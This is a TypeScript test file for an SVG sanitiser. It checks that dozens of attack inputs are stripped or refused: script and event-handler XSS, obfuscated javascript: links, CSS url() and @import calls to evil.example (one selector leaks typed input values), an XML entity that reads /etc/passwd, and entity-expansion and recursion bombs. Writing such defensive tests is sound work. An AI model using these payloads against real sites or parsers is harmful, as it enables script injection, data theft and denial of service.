import { describe, expect, it } from 'vitest'
import { Refused } from './refused.ts'
import { safeSvg } from './safe-svg.ts'

const NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
const MARK = '<rect id="kept" x="1" y="2" width="3" height="4"/>'
const drawing = (inside: string, more = '') => `<svg ${NS} viewBox="0 0 40 30"${more}>${inside}${MARK}</svg>`
const made = (text: string) => {
  const { bytes, ...rest } = safeSvg(Buffer.from(text))
  return { text: bytes.toString(), ...rest }
}

/**
 * Whatever could run, load, or speak to somebody else, in any spelling; the one address is the name of the language.
 */
const LIVE =
  /<(?!\/?(svg|g|defs|symbol|use|path|rect|circle|ellipse|line|polyline|polygon|text|tspan|textPath|title|desc|style|linearGradient|radialGradient|stop|clipPath|mask|pattern|marker)\b)|\son\w+\s*=|script|:\/\/(?!www\.w3\.org\/2000\/svg")|data:|&#|url\((?!#)|@|\\|href="(?!#)/i

const cleaned: ReadonlyArray<[what: string, text: string, kept?: string]> = [
  ['a script', drawing('<script>alert(1)</script>')],
  ['a script in CDATA', drawing('<script><![CDATA[alert(1)]]></script>')],
  ['a script from elsewhere', drawing('<script xlink:href="https://evil.example/x.js"/>')],
  [
    'a script under a prefix',
    `<s:svg xmlns:s="http://www.w3.org/2000/svg" viewBox="0 0 4 3"><s:script>alert(1)</s:script></s:svg>`,
  ],
  ['a script of HTML', drawing('<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(1)</h:script>')],
  ['what runs when it is loaded', drawing('', ' onload="alert(1)"')],
  ['what runs when it is clicked', drawing('<g onclick="alert(1)"/>')],
  ['what runs, in capitals', drawing('<g ONMOUSEOVER="alert(1)"/>')],
  ['what runs, in an unknown event', drawing('<g onbegin="alert(1)" onfocusin="alert(2)"/>')],
  [
    'HTML inside',
    drawing(
      '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" ' +
        'onerror="alert(1)"/></body></foreignObject>',
    ),
  ],
  [
    'a page inside',
    drawing('<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>'),
  ],
  ['a link that runs', drawing('<a href="javascript:alert(1)"><circle r="1"/></a>')],
  ['a link that runs, by xlink', drawing('<a xlink:href="javascript:alert(1)"><circle r="1"/></a>')],
  ['a link that runs, spelled with entities', drawing('<a href="&#106;ava&#115;cript:alert(1)"><circle r="1"/></a>')],
  ['a link with a line break in it', drawing('<a href="java&#10;script:alert(1)"><circle r="1"/></a>')],
  ['a picture from elsewhere', drawing('<image href="https://evil.example/x.png"/>')],
  ['a drawing as data', drawing('<image href="data:image/svg+xml;base64,PHN2Zy8+"/>')],
  ['a part of another file', drawing('<use href="https://evil.example/x.svg#a"/>')],
  ['a part as data', drawing('<use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#a"/>')],
  ['a part of a file beside it', drawing('<use href="other.svg#a"/>')],
  ['a picture in a filter', drawing('<filter id="f"><feImage href="https://evil.example/x"/></filter>')],
  ['a link that is set by an animation', drawing('<animate attributeName="href" to="javascript:alert(1)"/>')],
  ['an event that is set', drawing('<set attributeName="onmouseover" to="alert(1)"/>')],
  ['a move along a path', drawing('<animateMotion><mpath href="#x"/></animateMotion>')],
  ['a fill from elsewhere', drawing('<path fill="url(https://evil.example/#a)" d="M0 0"/>')],
  ['a fill from elsewhere in quotes', drawing(`<path fill="url('//evil.example/#a')" d="M0 0"/>`)],
  [
    'a fill from elsewhere in a style',
    drawing('<path style="fill:url(https://evil.example/#a);stroke:red" d="M0 0"/>'),
  ],
  ['a mask from elsewhere', drawing('<path mask="url( https://evil.example/m.svg#m )" d="M0 0"/>')],
  ['an escape in a style', drawing('<path style="fill:\\75rl(https://evil.example/)" d="M0 0"/>')],
  ['a comment in a style', drawing('<path style="fill:u/**/rl(https://evil.example/)" d="M0 0"/>')],
  ['a background', drawing('<path style="background:url(https://evil.example/)" d="M0 0"/>')],
  ['a set of images', drawing(`<path style="fill:image-set('https://evil.example/' 1x)" d="M0 0"/>`)],
  ['an expression', drawing('<path style="width:expression(alert(1))" d="M0 0"/>')],
  ['a binding', drawing('<path style="-moz-binding:url(https://evil.example/x.xml#x)" d="M0 0"/>')],
  ['an import', drawing('<style>@import url(https://evil.example/x.css);</style>')],
  ['a font', drawing('<style>@font-face{font-family:x;src:url(https://evil.example/x.woff)}</style>')],
  ['a rule that points elsewhere', drawing('<style>rect{fill:url(https://evil.example/#x)}</style>')],
  ['a rule that asks for what is typed', drawing('<style>input[value^=a]{fill:url(https://evil.example/?a)}</style>')],
  ['a style that ends itself', drawing('<style>&lt;/style>&lt;script>alert(1)&lt;/script></style>')],
  ['a style with elements in it', drawing('<style><script>alert(1)</script>rect{fill:red}</style>')],
  ['text that looks like a script', drawing('<text>&lt;script>alert(1)&lt;/script></text>'), '&lt;'],
  ['a title that looks like a script', drawing('<title><![CDATA[<script>alert(1)</script>]]></title>'), '&lt;'],
  ['a value that ends itself', drawing('<g id="a&quot; onload=&quot;alert"/>'), '&quot;'],
  ['a style sheet', `<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/x.xsl"?>${drawing('')}`],
  [
    'the DOCTYPE of older programs',
    `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">${drawing('')}`,
  ],
  ['a base', drawing('<g xml:base="https://evil.example/"><use href="#kept"/></g>')],
  ['a handler', drawing('<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)</handler>')],
  ['a media element', drawing('<video href="https://evil.example/x.mp4"/><audio/><canvas/>')],
  [
    'a cursor',
    drawing('<path style="cursor:url(https://evil.example/x.cur)" cursor="url(https://evil.example/x.cur)" d="M0 0"/>'),
  ],
]

const tenfold = (levels: number) =>
  Array.from({ length: levels }, (_, n) => `<g id="l${n + 1}">${`<use href="#l${n}"/>`.repeat(10)}</g>`).join('')

const refused: ReadonlyArray<readonly [string, string | Buffer, RegExp]> = [
  ['entities of its own', `<!DOCTYPE svg [<!ENTITY x "y">]>${drawing('<text>&x;</text>')}`, /entities/],
  [
    'an entity that reads a file',
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${drawing('<text>&x;</text>')}`,
    /entities/,
  ],
  ['entities that multiply', `<!DOCTYPE svg [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]>${drawing('&b;')}`, /entities/],
  ['an entity that nobody declared', drawing('<text>&evil;</text>'), /cannot be read/],
  ['parts that multiply', drawing(`<defs><rect id="l0"/>${tenfold(8)}</defs><use href="#l8"/>`), /so often/],
  ['a pattern in its own pattern', drawing('<pattern id="p"><rect fill="url(#p)"/></pattern>'), /inside of themselves/],
  ['a part of itself', drawing('<g id="a"><use href="#a"/></g>'), /inside of themselves/],
  [
    'a chain without end',
    drawing(Array.from({ length: 3000 }, (_, n) => `<g id="c${n}"><use href="#c${n + 1}"/></g>`).join('')),
    /inside of/,
  ],
  ['more levels than anybody draws', drawing('<g>'.repeat(500) + '</g>'.repeat(500)), /levels deep/],
  ['an element that is not closed', `<svg ${NS} viewBox="0 0 4 3"><g></svg>`, /cannot be read/],
  ['HTML', '<html><body/></html>', /no SVG/],
  ['an svg of no namespace', '<svg viewBox="0 0 4 3"/>', /no SVG/],
  ['nothing', ' ', /cannot be read|empty/],
  ['no text', Buffer.from([0xff, 0xfe, 0x3c, 0x00]), /UTF-8/],
  ['no size', `<svg ${NS} width="100%" height="100%"/>`, /how large/],
  ['a size of nothing', `<svg ${NS} viewBox="0 0 0 0"/>`, /how large/],
  ['a size without end', `<svg ${NS} viewBox="0 0 1e999 1"/>`, /how large/],
  ['a thread', `<svg ${NS} viewBox="0 0 1000 1"/>`, /narrow/],
]

describe('an SVG', () => {
  it.each(cleaned)('with %s loses it and keeps the drawing', (what, text, kept?: string) => {
    const { text: safe } = made(text)
    // In a text it is a text; the words may stand there as long as nothing makes elements of them.
    expect(kept ? safe.replace(/>[^<]*</g, '><').replace(/id="[^"]*"/g, '') : safe).not.toMatch(LIVE)
    if (kept) expect(safe).toContain(kept)
    if (!what.includes('prefix')) expect(safe).toContain('<rect id="kept" x="1" y="2" width="3" height="4">')
    // Made safe once more it stays as it is.
    expect(made(safe).text).toBe(safe)
  })

  it.each(refused)('with %s is refused', (_what, text, message) => {
    expect(() => safeSvg(Buffer.from(text))).toThrow(Refused)
    expect(() => safeSvg(Buffer.from(text))).toThrow(message)
  })

  it('keeps what plans are drawn with', () => {
    const plan = `<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"></stop></linearGradient></defs>
      <style>.wall{fill:none;stroke:#333;stroke-width:2}</style><g class="wall" transform="translate(1 2) rotate(5)">
      <path d="M0 0L4 4"></path><polyline points="0,0 1,1"></polyline></g><text x="1" style="font-size:3px;text-anchor:middle">Küche &amp; Flur</text>
      <rect fill="url(#g)"></rect><use href="#kept" x="3"></use>`
    const { text, width, height, removed } = made(drawing(plan))
    for (const part of plan.split('\n').map((line) => line.trim()))
      if (!part.startsWith('<text')) expect(text).toContain(part.split('<text')[0])
    expect(text).toContain('Küche &amp; Flur</text>')
    expect([width, height, removed]).toEqual([40, 30, []])
  })

  it('is told by its drawing program, which is left out without a word; what was dangerous is named', () => {
    const program =
      `<metadata xmlns="urn:x">a</metadata><i:grid xmlns:i="urn:inkscape" i:x="1"/><g ` +
      `data-name="Walls" xml:space="preserve"/>`
    expect(made(drawing(program)).removed).toEqual([])
    expect(made(drawing('<script/><g onclick="x"/><use href="//evil"/>')).removed).toEqual([
      'script',
      'onclick',
      'href',
    ])
  })

  it.each([
    ['viewBox="10 20 300 200" width="100%"', [300, 200], '10 20 300 200'],
    ['width="96" height="48px"', [96, 48], '0 0 96 48'],
    ['width="25.4mm" height="2.54cm"', [96, 96], '0 0 96 96'],
  ])('with %s is as large as it says', (attributes, size, box) => {
    const { text, width, height } = made(`<svg ${NS} ${attributes} preserveAspectRatio="none">${MARK}</svg>`)
    expect([Math.round(width), Math.round(height)]).toEqual(size)
    expect(text).toContain(`viewBox="${box}" width="${width}" height="${height}">`)
  })

  it('of five megabytes is made safe in a moment', () => {
    const one = '<path d="M0 0L1 1" onclick="x" style="fill:red"/>'
    const began = process.cpuUsage()
    const { text } = made(drawing(one.repeat(Math.floor((5 * 1024 * 1024) / one.length) - 10)))
    expect(text).not.toContain('onclick')
    const { user, system } = process.cpuUsage(began)
    expect((user + system) / 1000).toBeLessThan(8000)
  })
})
